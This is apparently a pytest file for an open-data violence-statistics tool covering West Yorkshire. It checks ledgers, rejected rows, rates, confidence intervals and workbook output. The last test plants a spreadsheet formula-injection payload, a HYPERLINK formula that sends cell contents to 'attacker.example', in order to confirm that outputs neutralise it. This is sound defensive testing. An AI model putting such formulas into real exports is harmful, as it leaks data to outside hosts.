"""A third force with no code change: hand-made West Yorkshire street files and nothing else.

The folder holds only ``police/street`` (``conftest.make_west_yorkshire``): geography, CSPs and
local-authority populations come from the data shipped with svsna. Expected values are worked out
by hand from the rows written in ``conftest.py``: each of the 12 months of FY2021/22 has 13 rows --
in the force: 7 violence and sexual offences (VSO: 3 in E01011264, 1 in E01011265, 1 in E01011266,
all Leeds; 2 in E01010568, Bradford), 1 robbery (E01011264), 1 possession of weapons (E01010568),
1 burglary (E01010569); excluded: 1 ASB, 1 VSO with no location, 1 VSO in a Leicester LSOA.
2021-05 has 5 more, bad, rows; 2021-06 two more: a robbery in Taunton Deane 002A (Avon and
Somerset) and a VSO whose LSOA code is not a 2011 LSOA.
Populations: ONS mid-2020 by local authority, read here from the shared data file (mid-2021 is
not shipped, so svsna must use mid-2020 and say so).
"""

from __future__ import annotations

import math

import pandas as pd
import pytest

from svsna.opendata.assessment import run_opendata

from .conftest import WY_LSOAS, add_lsoa_population, ons_population_2020

WY_LADS = ("E08000032", "E08000033", "E08000034", "E08000035", "E08000036")  # Bradford .. Wakefield


@pytest.fixture(scope="module")
def wy_run(west_yorkshire_shared, tmp_path_factory):
    out = tmp_path_factory.mktemp("wy_out")
    return run_opendata(west_yorkshire_shared, "west-yorkshire", [2021], out, build_report=False)


def _one(ind: pd.DataFrame, **where) -> pd.Series:
    sel = ind
    for k, v in where.items():
        sel = sel[sel[k] == v]
    assert len(sel) == 1, (where, len(sel))
    return sel.iloc[0]


def _byars(o: float, z: float = 1.959964) -> tuple[float, float]:
    # PHE Technical Guide: Confidence Intervals (2018), Byar's method
    lo = o * (1 - 1 / (9 * o) - z / (3 * math.sqrt(o))) ** 3
    hi = (o + 1) * (1 - 1 / (9 * (o + 1)) + z / (3 * math.sqrt(o + 1))) ** 3
    return lo, hi


def test_only_street_files_in_the_folder(west_yorkshire_shared):
    assert [p.name for p in west_yorkshire_shared.iterdir()] == ["police"]
    assert {p.name for p in (west_yorkshire_shared / "police").iterdir()} == {"street"}


def test_ledger_accounts_for_every_row(wy_run):
    led = wy_run.ledger
    totals = led.groupby("outcome")["rows"].sum().to_dict()
    # 12 months x 13 rows + 5 bad rows + 2 extra rows; loaded 12 x 10; excluded 12 x 3 + 2; rejected 5
    assert totals == {"read": 163, "loaded": 120, "excluded": 38, "rejected": 5}
    by_reason = led[led["outcome"] != "read"].groupby("reason")["rows"].sum()
    assert by_reason["excluded: anti-social behaviour (an incident, not a crime)"] == 12
    assert by_reason["excluded: no location (blank LSOA code)"] == 12
    assert by_reason["excluded: outside force area (an LSOA of another police force area)"] == 13
    assert by_reason["excluded: not a 2011 LSOA code (not in the national lookup of England and Wales)"] == 1
    for reason in (  # the source contract's rules (svsna/sources/open_data_contracts.yaml), as for partner files
        "pattern mismatch (month)",
        "differs from the file name (month)",
        "unknown code (crime_type)",
        "not a number (longitude)",
        "too few fields",
    ):
        assert by_reason[reason] == 1
    may = led[(led["file"] == "2021-05-west-yorkshire-street.csv") & (led["outcome"] == "read")]
    assert int(may["rows"].iloc[0]) == 18


def test_outside_rows_are_placed_by_code(wy_run):
    out = pd.read_csv(wy_run.files["outside_force"], dtype=str)
    got = {(r.lad_code, r.lad_name, r.pfa_name): int(r.rows) for r in out.itertuples()}
    # Leicester 008A every month; Taunton Deane 002A once -- in Somerset today, whatever its name says
    assert got == {("E06000016", "Leicester", "Leicestershire"): 12, ("E06000066", "Somerset", "Avon and Somerset"): 1}
    ledger_text = next(f for f in wy_run.findings if f.key == "row_ledger").text
    assert "13 rows located in 2 local authorities of other force areas" in ledger_text
    assert "1 row whose LSOA code is not a 2011 LSOA" in ledger_text


def test_rejects_name_file_line_column_value_and_rule(wy_run):
    rej = pd.read_csv(wy_run.files["rejects"], dtype=str, keep_default_na=False)
    assert len(rej) == 5
    assert set(rej["file"]) == {"2021-05-west-yorkshire-street.csv"}
    got = {(r.row_number, r.column, r.value) for r in rej.itertuples()}
    assert ("15", "month", "2021-13") in got
    assert ("16", "month", "2021-06") in got
    assert ("17", "crime_type", "Knife crime") in got
    assert ("18", "longitude", "abc") in got
    assert any(r.row_number == "19" and r.rule == "too few fields" for r in rej.itertuples())
    rules = {r.row_number: r.rule for r in rej.itertuples()}
    assert rules == {
        "15": "pattern mismatch",
        "16": "differs from the file name",
        "17": "unknown code",
        "18": "not a number",
        "19": "too few fields",
    }
    assert list(rej.columns) == ["source", "file", "row_number", "column", "value", "rule", "message"]


def test_counts_and_the_force_rate_from_shipped_populations(wy_run, shared_data):
    ind = wy_run.indicators
    ext = ind[ind["section"] == "od_extent"]
    for key, n in {"vso": 84, "robbery": 12, "weapons": 12, "combined": 108}.items():
        assert _one(ext, indicator="offences", definition=key)["value"] == n
    # recorded (all locations): VSO 9 x 12 + the not-2011-LSOA VSO = 109; combined 11 x 12 + 2 = 134
    assert _one(ext, indicator="crimes_recorded", definition="vso")["value"] == 109
    assert _one(ext, indicator="crimes_recorded", definition="combined")["value"] == 134
    pop = ons_population_2020(shared_data)
    force_pop = sum(pop[c] for c in WY_LADS)
    r = _one(ext, indicator="rate", definition="vso")
    assert r["denominator"] == force_pop
    assert r["value"] == pytest.approx(84 / force_pop * 1000)
    lo, hi = _byars(84)
    assert r["lower"] == pytest.approx(lo / force_pop * 1000, rel=1e-7)
    assert r["upper"] == pytest.approx(hi / force_pop * 1000, rel=1e-7)
    share = _one(ext, indicator="share_of_all_crime", definition="vso")
    assert share["value"] == pytest.approx(70.0)  # 84 of the 120 located crimes


def test_every_local_authority_and_csp_of_the_force(wy_run, shared_data):
    pop = ons_population_2020(shared_data)
    geo = wy_run.indicators[wy_run.indicators["section"] == "od_geography"]
    la = geo[(geo["indicator"] == "area_rate") & (geo["breakdown"] == "local_authority")]
    vso = la[la["definition"] == "vso"]
    assert len(vso) == 5  # all five West Yorkshire authorities, with or without crimes
    leeds = _one(vso, breakdown_value="Leeds")
    brad = _one(vso, breakdown_value="Bradford")
    assert leeds["value"] == pytest.approx(60 / pop["E08000035"] * 1000)  # 5 a month in Leeds
    assert brad["value"] == pytest.approx(24 / pop["E08000032"] * 1000)  # 2 a month in Bradford
    assert _one(vso, breakdown_value="Wakefield")["numerator"] == 0
    csp = geo[(geo["indicator"] == "area_rate") & (geo["breakdown"] == "community_safety_partnership")]
    # ONS LAD to CSP to PFA (December 2024): Leeds CSP E22000345
    assert _one(csp, breakdown_value="Leeds", definition="vso")["value"] == pytest.approx(leeds["value"])


def test_population_fallback_is_said(wy_run):
    meta = wy_run.metadata
    assert meta["population_fallback"] is True
    lad = next(c for c in meta["population_years"] if c["level"] == "lad")
    assert (lad["wanted_mid_year"], lad["used_mid_year"], lad["how"]) == (2021, 2020, "earlier")
    assert (
        "2021/22: local authority, community safety partnership and force area rates use mid-2020 estimates"
        in (meta["populations"])
    )
    assert "mid-2021 estimates are not available" in meta["populations"]
    f = next(f for f in wy_run.findings if f.key == "population_year_fallback")
    assert "Rates for 2021/22 use mid-2020 population estimates" in f.text
    assert "local authorities as at 1 April 2024" in meta["geography_vintage"]["local_authorities"]
    vintage = next(f for f in wy_run.findings if f.key == "geography_vintage")  # printed in the data-quality section
    assert "local authorities of 1 April 2024 (the current ones)" in vintage.text
    assert "police force areas of December 2024" in vintage.text


def test_lsoa_analyses_say_why_they_are_absent(wy_run):
    ind = wy_run.indicators
    assert not (ind["breakdown"] == "lsoa").any() and not (ind["section"] == "od_hotspots").any()
    keys = {f.key for f in wy_run.findings}
    assert {"lsoa_rates_not_run", "hotspots_not_run"} <= keys


def test_findings_are_keys_of_the_contract_with_its_numbers(wy_run):
    """Open-data findings are declared in analyses/findings_opendata.yaml; their text is their template's."""
    from svsna.analyses.findings_catalogue import check_findings
    from svsna.outputs.sentences import TEMPLATES, render

    assert check_findings(wy_run.findings) == []
    for f in wy_run.findings:
        assert f.key in TEMPLATES, f.key
        assert render(f, area=f.area).text == f.text, f.key
    count = next(f for f in wy_run.findings if f.key == "od_group_count" and f.definition == "vso")
    assert (count.numbers["crimes"], count.numbers["unit"]) == (84, "crimes per 1,000 residents")


def test_metadata_states_the_proxy(wy_run):
    meta = wy_run.metadata
    assert meta["title"] == "Open-data edition"
    assert meta["area"] == "West Yorkshire" and meta["pfa_code"] == "E23000010"
    assert "cannot isolate serious violence" in meta["proxy_definition"]
    assert meta["serious_violence"] is False
    keys = [f.key for f in wy_run.findings]
    assert keys[0] == "proxy_definition"
    assert not any("serious" in i for i in wy_run.indicators["indicator"].unique())


def test_geography_used_is_written(wy_run):
    geo = pd.read_csv(wy_run.files["geography"], dtype=str)
    assert geo["pfa_code"].unique().tolist() == ["E23000010"]
    assert sorted(geo["lad_code"].unique()) == list(WY_LADS)
    assert set(WY_LSOAS) <= set(geo["lsoa_code"])
    row = geo.set_index("lsoa_code").loc["E01010568"]
    assert (row["lsoa_name"], row["lad_name"], row["imd_decile"]) == ("Bradford 016A", "Bradford", "8")


def test_incomplete_year_is_refused(west_yorkshire, tmp_path):
    from svsna.errors import ConfigError

    with pytest.raises(ConfigError, match=r"2020/21 has 0 of 12 months"):
        run_opendata(west_yorkshire, "west-yorkshire", [2020, 2021], tmp_path / "o", build_report=False)


def test_one_workbook_titled_open_data_edition(wy_run):
    from openpyxl import load_workbook

    assert sorted(p.name for p in wy_run.out_dir.glob("*.xlsx")) == ["opendata-tables.xlsx"]
    wb = load_workbook(wy_run.files["workbook"], read_only=True)
    assert wb.sheetnames == ["About", "Indicators", "Findings", "Ledger", "Rejects"]
    about = wb["About"]
    assert about["A1"].value == "Open-data edition"
    details = [r[1] for r in about.iter_rows(min_row=4, values_only=True)]
    assert any("cannot isolate serious violence" in str(d) for d in details)
    assert any("mid-2020 estimates, because mid-2021 estimates are not available" in str(d) for d in details)
    rows = list(wb["Indicators"].iter_rows(values_only=True))
    assert len(rows) == len(wy_run.indicators) + 1
    header = rows[0]
    vso = [r for r in rows[1:] if r[header.index("indicator")] == "offences" and r[header.index("definition")] == "vso"]
    assert [r[header.index("value")] for r in vso] == [84]
    assert len(list(wb["Rejects"].iter_rows(values_only=True))) == 5 + 1
    wb.close()


def test_data_folder_mye2_is_used_for_its_year(west_yorkshire, tmp_path):
    """An ONS MYE2 file for mid-2021 covering every authority of the force is used as is: no fallback."""
    pop = west_yorkshire / "population"
    pop.mkdir()
    made_up = dict(zip(WY_LADS, (500_000, 200_000, 400_000, 800_000, 350_000), strict=True))
    lines = ["Sex,Code,Name,Geography,All ages"]
    lines += [f"Persons,{c},x,Metropolitan District,{n}" for c, n in made_up.items()]
    lines += ["Males,E08000035,Leeds,Metropolitan District,1", "Persons,E92000001,ENGLAND,Country,56536419"]
    (pop / "ons_mye2_sya_mid2021_wy.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = run_opendata(west_yorkshire, "west-yorkshire", [2021], tmp_path / "o", build_report=False, workbook=False)
    ind = res.indicators
    la = ind[(ind["indicator"] == "area_rate") & (ind["breakdown"] == "local_authority")]
    assert _one(la, breakdown_value="Leeds", definition="vso")["value"] == pytest.approx(60 / 800)
    force = _one(ind, section="od_extent", indicator="rate", definition="vso")
    assert force["denominator"] == sum(made_up.values())
    assert res.metadata["population_fallback"] is False
    assert "population_year_fallback" not in {f.key for f in res.findings}


def test_lsoa_population_file_adds_lsoa_rates_and_deciles(west_yorkshire, tmp_path):
    """LSOA rates for the LSOAs with an estimate; the others get none; deciles use only LSOAs with one."""
    pops = {"E01011264": 1000, "E01011265": 2000, "E01011266": 1500, "E01010568": 1200, "E01010569": 1800}
    add_lsoa_population(west_yorkshire, pops, 2021)
    res = run_opendata(west_yorkshire, "west-yorkshire", [2021], tmp_path / "o", build_report=False, workbook=False)
    ind = res.indicators
    lsoa = ind[(ind["indicator"] == "area_rate") & (ind["breakdown"] == "lsoa") & (ind["definition"] == "vso")]
    with_rate = lsoa[lsoa["value"].notna()]
    assert sorted(with_rate["breakdown_value"]) == sorted(pops)
    assert len(lsoa) == len(pd.read_csv(res.files["geography"]))  # every LSOA of the force is listed
    assert _one(with_rate, breakdown_value="E01011264")["value"] == pytest.approx(36.0)
    dec = ind[(ind["indicator"] == "deprivation_rate") & (ind["definition"] == "vso")]
    # IMD 2019 deciles (MHCLG File 1): E01011264 5, E01011265 7, E01011266 10, E01010568 8, E01010569 2
    assert set(dec["breakdown_value"]) == {"2", "5", "7", "8", "10"}
    assert _one(dec, breakdown_value="8")["value"] == pytest.approx(24 / 1200 * 1000)
    lsoa_choice = next(c for c in res.metadata["population_years"] if c["level"] == "lsoa")
    assert lsoa_choice["how"] == "exact" and len(lsoa_choice["areas_without_estimate"]) == len(lsoa) - 5


def test_formula_text_in_street_files_is_neutralised_in_every_output(west_yorkshire, tmp_path):
    """Attack: a street file carrying spreadsheet formulas in text columns; no output cell may run one."""
    import csv as _csv

    from openpyxl import load_workbook

    f = west_yorkshire / "police" / "street" / "2021-04" / "2021-04-west-yorkshire-street.csv"
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    rows = f.read_text(encoding="utf-8").splitlines()
    rows.append(
        f"x1,2021-04,West Yorkshire Police,West Yorkshire Police,-1.5,53.8,On or near Park Lane,E01011264,"
        f'Leeds 011A,Robbery,"{evil.replace(chr(34), chr(34) * 2)}",'
    )
    rows.append(
        "x2,2021-04,West Yorkshire Police,West Yorkshire Police,-1.5,53.8,On or near Park Lane,E01011264,"
        "Leeds 011A,@SUM(1+1),Unable to prosecute suspect,"
    )
    f.write_text("\n".join(rows) + "\n", encoding="utf-8")
    res = run_opendata(west_yorkshire, "west-yorkshire", [2021], tmp_path / "o", build_report=False)
    # the formula reached the indicator table as data ...
    assert (res.indicators["breakdown_value"] == evil).any()
    # ... but every CSV and workbook cell holding it starts with a quote
    for name in ("indicators.csv", "rejects.csv"):
        with (tmp_path / "o" / name).open(encoding="utf-8", newline="") as fh:
            cells = [c for row in _csv.reader(fh) for c in row]
        assert not [c for c in cells if c.lstrip().startswith(("=", "@", "+"))], name
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells), name
    wb = load_workbook(res.files["workbook"])
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert f"'{evil}" in texts and "'@SUM(1+1)" in texts
